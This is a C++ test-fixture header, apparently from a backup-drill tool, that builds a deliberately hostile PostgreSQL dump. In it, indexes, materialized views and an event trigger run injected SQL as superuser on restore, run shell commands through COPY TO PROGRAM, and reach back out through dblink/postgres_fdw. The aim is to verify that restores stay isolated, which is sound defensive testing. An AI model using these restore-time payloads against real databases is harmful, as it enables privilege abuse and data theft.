#pragma once
#include "drill/drill.hpp"
#include "dump_fixture.hpp"
#include "support/tcp_listener.hpp"

#include <dlfcn.h>

#include <fstream>
#include <iterator>

namespace backupwatch {

/// In the source it does nothing. Where it is restored, an index, a materialized view and an event
/// trigger run it as the superuser, and it notes in the file `loot` what came of it.
inline constexpr const char* hostile_schema = R"(
CREATE EXTENSION dblink;
CREATE EXTENSION postgres_fdw;
CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw
    OPTIONS (host '@socket@', port '@port@', dbname 'shop');
CREATE USER MAPPING FOR public SERVER elsewhere OPTIONS (user 'postgres', password_required 'false');
CREATE FOREIGN TABLE public.stolen (id int) SERVER elsewhere OPTIONS (table_name 'posts');
CREATE FUNCTION public.attempt(name text, statement text) RETURNS void LANGUAGE plpgsql AS $f$
DECLARE
    outcome text := 'done';
BEGIN
    BEGIN
        EXECUTE statement;
    EXCEPTION WHEN OTHERS THEN
        outcome := replace(SQLERRM, E'\n', ' ');
    END;
    EXECUTE format('COPY (SELECT %L) TO PROGRAM ''cat >> loot''', name || ': ' || outcome);
END $f$;

CREATE FUNCTION public.attack(who text) RETURNS int LANGUAGE plpgsql AS $f$
BEGIN
    IF current_database() <> 'restored' THEN RETURN 1; END IF;
    @attack@
    RETURN 1;
END $f$;
CREATE FUNCTION public.harmless(who text) RETURNS int IMMUTABLE LANGUAGE plpgsql
    AS 'BEGIN RETURN public.attack(who); END';
CREATE FUNCTION public.on_command() RETURNS event_trigger LANGUAGE plpgsql
    AS $f$ BEGIN PERFORM public.attack('event trigger'); END $f$;

CREATE TABLE public.posts AS SELECT 1 AS id;
)";

inline constexpr const char* hostile_objects = R"(
CREATE INDEX ON public.posts (public.harmless('index' || id::text));
CREATE MATERIALIZED VIEW public.summary AS SELECT public.attack('view') AS one FROM public.posts;
-- Filled after the other, while which the trigger is made.
CREATE MATERIALIZED VIEW public.summary_of_it AS SELECT one FROM public.summary;
CREATE EVENT TRIGGER tripwire ON ddl_command_start
    WHEN TAG IN ('REFRESH MATERIALIZED VIEW') EXECUTE FUNCTION public.on_command();
ALTER EVENT TRIGGER tripwire ENABLE ALWAYS;
)";

inline void replace_all(std::string& text, const std::string& name, const std::string& value) {
    const std::string mark = "@" + name + "@";
    for (auto at = text.find(mark); at != text.npos; at = text.find(mark)) {
        text.replace(at, mark.size(), value);
    }
}

inline std::string library_of(void* function) {
    Dl_info found{};
    EXPECT_NE(::dladdr(function, &found), 0);
    return fs::canonical(found.dli_fname);
}

/// A database that attacks whoever restores it.
class HostileDump : public DumpTest {
  protected:
    HostileDump() {
        ::chmod(directory_.path().c_str(), 0777);
        std::ofstream(secret_) << "4711\n";
        ::chmod(secret_.c_str(), 0666);
        fs::copy_file("/usr/lib/postgresql/15/lib/dblink.so", library_);
        ::chmod(library_.c_str(), 0755);
    }

    /// A database whose restore runs this as its superuser.
    void prepare(const std::string& attack) {
        std::string schema = hostile_schema;
        replace_all(schema, "attack", attack);
        replace_all(schema, "socket", server_.socket_folder());
        replace_all(schema, "port", std::to_string(server_.port()));
        replace_all(schema, "server", std::to_string(server_.pid()));
        replace_all(schema, "pid", std::to_string(::getpid()));
        replace_all(schema, "listener", std::to_string(listener_.port()));
        replace_all(schema, "folder", directory_.path());
        replace_all(schema, "secret", secret_);
        replace_all(schema, "library", library_);
        replace_all(schema, "work", work_);
        replace_all(schema, "state", state_);
        replace_all(schema, "neighbour", neighbour_);
        replace_all(schema, "libc", library_of(reinterpret_cast<void*>(&::getpid)));
        server_.execute("shop", schema);
        server_.execute("shop", hostile_objects);
    }

    DrillReport drill(DrillJob job, const fs::path& work) {
        const auto source = make(plan());
        job.database = "shop";
        job.set = "nightly";
        job.source = source.get();
        job.backup = take(*source);
        // Whoever gets out may be waited for out there.
        job.settings.timeout = std::min<Duration>(job.settings.timeout, 2min);
        ProgressSink look = [&](const Progress& progress) {
            if (progress.phase == "verify" && loot_.empty()) loot_ = loot_in(work);
        };
        Driller driller(work, *clock_, pool_);
        return run_on(loop_, driller.run(std::move(job), look));
    }
    DrillReport drill(DrillJob job = {}) { return drill(std::move(job), work_); }

    static std::string loot_in(const fs::path& work) {
        for (const auto& entry : fs::directory_iterator(work)) {
            std::ifstream file(entry.path() / "data" / "loot");
            if (file) return {std::istreambuf_iterator<char>(file), {}};
        }
        return {};
    }

    void expect_unharmed(const fs::path& work) {
        EXPECT_TRUE(processes_in(work).empty());
        for (const auto& entry : fs::directory_iterator(work)) {
            EXPECT_EQ(entry.path().filename(), "templates");
        }
        EXPECT_EQ(server_.value("shop", "SELECT count(*) FROM posts"), "1");
        EXPECT_EQ(server_.value("shop", "SELECT to_regclass('broken_in') IS NULL"), "t");
        EXPECT_FALSE(listener_.was_called());
        EXPECT_FALSE(fs::exists(directory_ / "planted"));
        EXPECT_EQ(fs::file_size(secret_), 5u);
    }

    const fs::path work_ = directory_ / "work";
    const fs::path secret_ = directory_ / "secret";
    const fs::path library_ = directory_ / "hostile.so";
    const fs::path state_ = directory_ / "state";
    const fs::path neighbour_ = directory_ / "neighbour";
    TcpListener listener_;
    std::string loot_;
};

}  // namespace backupwatch
